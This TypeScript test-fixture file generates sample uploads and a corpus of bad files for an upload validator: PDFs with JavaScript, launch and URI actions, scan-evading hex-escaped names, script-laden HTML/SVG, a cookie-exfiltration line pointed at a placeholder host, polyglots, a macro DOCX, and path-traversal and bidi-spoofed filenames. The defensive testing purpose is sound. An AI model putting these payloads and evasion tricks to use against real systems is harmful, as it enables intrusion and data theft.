/**
 * Files for the document tests, made here rather than shipped: good files of every accepted type, and
 * the corpus of bad files every upload must refuse.
 */
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

/** A real PDF with text, saved with compressed object streams (pdf-lib's default). */
export async function cleanPdf(text = 'Arrest warrant — Tribunal judiciaire de Lyon'): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  page.drawText(text.replace('—', '-'), {
    x: 20,
    y: 100,
    size: 10,
    font: await doc.embedFont(StandardFonts.Helvetica),
  });
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

async function pdfWith(edit: (doc: PDFDocument) => void | Promise<void>): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([300, 200]);
  await edit(doc);
  // Object streams on: the action dictionaries end up compressed, where a scan of the bytes cannot see them.
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

export const pdfWithJavaScript = () =>
  pdfWith((doc) => {
    const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  });

export const pdfWithLaunch = () =>
  pdfWith((doc) => {
    const action = doc.context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  });

export const pdfWithUri = () =>
  pdfWith((doc) => {
    const action = doc.context.obj({ S: 'URI', URI: PDFString.of('http://example.invalid/') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  });

export const pdfWithEmbeddedFile = () =>
  pdfWith(async (doc) => {
    await doc.attach(Buffer.from('hidden payload'), 'payload.txt', { mimeType: 'text/plain' });
  });

/** An uncompressed PDF whose JavaScript action names are hex-escaped in lower case (/J#61vaScript). */
export function pdfWithEscapedJavaScript(): Buffer {
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>',
    '<< /S /J#61vaScript /#4a#53 (app.alert\\(1\\)) >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objs.forEach((o, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) body += `${String(off).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}

/** A 2×2 RGB PNG. */
export function png(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(2, 0);
  ihdr.writeUInt32BE(2, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  const raw = Buffer.from([0, 255, 0, 0, 0, 255, 0, 0, 0, 0, 255, 255, 255, 255]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A small JPEG header through end of image (enough for type detection and the end-marker check). */
export function jpeg(): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0', 'latin1'),
    Buffer.from([1, 1, 0, 0, 1, 0, 1, 0, 0]),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A little-endian TIFF with an empty first directory. */
export function tiff(): Buffer {
  return Buffer.from([0x49, 0x49, 0x2a, 0x00, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00]);
}

/** A ZIP archive with stored (uncompressed) entries. */
export function zip(entries: Array<[string, string | Buffer]>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const data = Buffer.isBuffer(content) ? content : Buffer.from(content);
    const n = Buffer.from(name);
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(n.length, 26);
    locals.push(local, n, data);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(n.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, n);
    offset += 30 + n.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

export function docx(extra: Array<[string, string]> = []): Buffer {
  return zip([
    [
      '[Content_Types].xml',
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ],
    ['_rels/.rels', '<?xml version="1.0"?><Relationships/>'],
    ['word/document.xml', '<?xml version="1.0"?><w:document><w:body><w:p/></w:body></w:document>'],
    ...extra,
  ]);
}

/** A minimal Windows executable header (MZ … PE). */
export function exe(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}

export const text = (s = 'Translation of the arrest warrant.\nTribunal judiciaire de Lyon, 12 May 2022.\n') =>
  Buffer.from(s, 'utf8');

export interface BadFile {
  label: string;
  fileName: string;
  bytes: () => Buffer | Promise<Buffer>;
  /** What the refusal must name. */
  reason: string;
  status: number;
}

/** The corpus of bad files (issue: "Bad input"). `overLimit` is a file one byte over the given limit. */
export function badFileCorpus(limit: number): BadFile[] {
  return [
    {
      label: 'HTML named .pdf',
      fileName: 'warrant.pdf',
      bytes: () => text('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'),
      reason: 'text_markup',
      status: 422,
    },
    {
      label: 'SVG named .pdf',
      fileName: 'warrant.pdf',
      bytes: () =>
        text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
      reason: 'text_markup',
      status: 422,
    },
    {
      label: 'SVG with XML declaration named .pdf',
      fileName: 'warrant.pdf',
      bytes: () =>
        text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script></svg>'),
      reason: 'type_not_allowed',
      status: 422,
    },
    {
      label: 'JavaScript named .pdf',
      fileName: 'warrant.pdf',
      bytes: () =>
        text(
          'const x = 1;\nfunction go() { document.location = "https://example.invalid/?" + document.cookie; }\ngo();\n',
        ),
      reason: 'text_script',
      status: 422,
    },
    { label: 'executable', fileName: 'reader.exe', bytes: exe, reason: 'type_not_allowed', status: 422 },
    {
      label: 'executable named .pdf',
      fileName: 'warrant.pdf',
      bytes: exe,
      reason: 'type_not_allowed',
      status: 422,
    },
    {
      label: 'PDF with JavaScript (in a compressed object stream)',
      fileName: 'warrant.pdf',
      bytes: pdfWithJavaScript,
      reason: 'pdf_javascript',
      status: 422,
    },
    {
      label: 'PDF with JavaScript, names hex-escaped',
      fileName: 'warrant.pdf',
      bytes: pdfWithEscapedJavaScript,
      reason: 'pdf_javascript',
      status: 422,
    },
    {
      label: 'PDF with a launch action',
      fileName: 'warrant.pdf',
      bytes: pdfWithLaunch,
      reason: 'pdf_launch',
      status: 422,
    },
    {
      label: 'PDF with a URI action',
      fileName: 'warrant.pdf',
      bytes: pdfWithUri,
      reason: 'pdf_uri',
      status: 422,
    },
    {
      label: 'PDF with an embedded file',
      fileName: 'warrant.pdf',
      bytes: pdfWithEmbeddedFile,
      reason: 'pdf_embedded_file',
      status: 422,
    },
    {
      label: 'polyglot: PNG with a ZIP archive appended',
      fileName: 'photo.png',
      bytes: () => Buffer.concat([png(), zip([['run.js', 'alert(1)']])]),
      reason: 'polyglot',
      status: 422,
    },
    {
      label: 'polyglot: PDF that is also HTML',
      fileName: 'warrant.pdf',
      bytes: async () => {
        const p = await cleanPdf();
        return Buffer.concat([
          p.subarray(0, 9),
          Buffer.from('%<html><script>alert(1)</script></html>\n'),
          p.subarray(9),
        ]);
      },
      reason: 'polyglot',
      status: 422,
    },
    {
      label: 'polyglot: JPEG carrying a PDF',
      fileName: 'photo.jpg',
      bytes: async () => Buffer.concat([jpeg().subarray(0, -2), await cleanPdf(), Buffer.from([0xff, 0xd9])]),
      reason: 'polyglot',
      status: 422,
    },
    {
      label: 'DOCX with macros',
      fileName: 'letter.docx',
      bytes: () => docx([['word/vbaProject.bin', 'macro']]),
      reason: 'docx_macros',
      status: 422,
    },
    {
      label: 'one byte over the limit',
      fileName: 'notes.txt',
      bytes: () => Buffer.alloc(limit + 1, 'a'),
      reason: 'too_large',
      status: 413,
    },
    {
      label: 'empty file',
      fileName: 'empty.pdf',
      bytes: () => Buffer.alloc(0),
      reason: 'empty',
      status: 422,
    },
    {
      label: 'name with path traversal',
      fileName: '../../etc/passwd.txt',
      bytes: () => text(),
      reason: 'doc_name_path',
      status: 422,
    },
    {
      label: 'name with a Windows path',
      fileName: '..\\..\\boot.txt',
      bytes: () => text(),
      reason: 'doc_name_path',
      status: 422,
    },
    {
      label: 'name with control characters',
      fileName: 'notes\u0007\u001b[31m.txt',
      bytes: () => text(),
      reason: 'doc_name_control',
      status: 422,
    },
    {
      label: 'name with a right-to-left override',
      fileName: 'warrant\u202Efdp.exe',
      bytes: () => text(),
      reason: 'doc_name_bidi',
      status: 422,
    },
  ];
}

const xmlEscape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/**
 * A Word document as Word writes its skeleton (content types, package and document relationships, the main
 * part in the WordprocessingML namespace) with one paragraph per entry, right to left where `rtl` is set.
 */
export function docxWithText(paragraphs: string[], opts: { rtl?: boolean } = {}): Buffer {
  const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
  const body = paragraphs
    .map(
      (p) =>
        `<w:p>${opts.rtl ? '<w:pPr><w:bidi/></w:pPr>' : ''}<w:r>${opts.rtl ? '<w:rPr><w:rtl/></w:rPr>' : ''}<w:t xml:space="preserve">${xmlEscape(p)}</w:t></w:r></w:p>`,
    )
    .join('');
  return zip([
    [
      '[Content_Types].xml',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ],
    [
      '_rels/.rels',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    ],
    [
      'word/document.xml',
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}"><w:body>${body}</w:body></w:document>`,
    ],
  ]);
}

/** A Word document whose main part is not well-formed XML (a damaged file). */
export function docxDamaged(): Buffer {
  const good = docxWithText(['x']);
  return zip([
    [
      '[Content_Types].xml',
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ],
    [
      '_rels/.rels',
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    ],
    ['word/document.xml', `<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>cut off${good.length}`],
  ]);
}

/**
 * A multi-page TIFF (big-endian, uncompressed RGB, one strip per page), each page one solid colour, as a
 * scanner or fax gateway writes a multi-page document.
 */
export function tiffMultiPage(
  pages: Array<{ width: number; height: number; rgb: [number, number, number] }>,
): Buffer {
  const dataStart = 4096;
  const offsets: number[] = [];
  let at = dataStart;
  for (const p of pages) {
    offsets.push(at);
    at += p.width * p.height * 3;
  }
  const out = Buffer.alloc(at);
  // Header: "MM", 42, first directory at 8.
  out.write('MM', 0, 'latin1');
  out.writeUInt16BE(42, 2);
  out.writeUInt32BE(8, 4);
  let ifd = 8;
  pages.forEach((p, i) => {
    const entries: Array<[number, number, number, number]> = [
      // tag, type (3 short, 4 long), count, value
      [256, 4, 1, p.width],
      [257, 4, 1, p.height],
      [258, 3, 1, 8], // bits per sample (8 for each of the three, read as one value)
      [259, 3, 1, 1], // no compression
      [262, 3, 1, 2], // RGB
      [273, 4, 1, offsets[i]!],
      [277, 3, 1, 3],
      [278, 4, 1, p.height],
      [279, 4, 1, p.width * p.height * 3],
      [284, 3, 1, 1],
    ];
    out.writeUInt16BE(entries.length, ifd);
    entries.forEach(([tag, type, count, value], k) => {
      const o = ifd + 2 + k * 12;
      out.writeUInt16BE(tag, o);
      out.writeUInt16BE(type, o + 2);
      out.writeUInt32BE(count, o + 4);
      if (type === 3) out.writeUInt16BE(value, o + 8);
      else out.writeUInt32BE(value, o + 8);
    });
    const next = i < pages.length - 1 ? ifd + 2 + entries.length * 12 + 4 : 0;
    out.writeUInt32BE(next, ifd + 2 + entries.length * 12);
    ifd = next;
    for (let px = 0; px < p.width * p.height; px++) {
      out[offsets[i]! + px * 3] = p.rgb[0];
      out[offsets[i]! + px * 3 + 1] = p.rgb[1];
      out[offsets[i]! + px * 3 + 2] = p.rgb[2];
    }
  });
  return out;
}
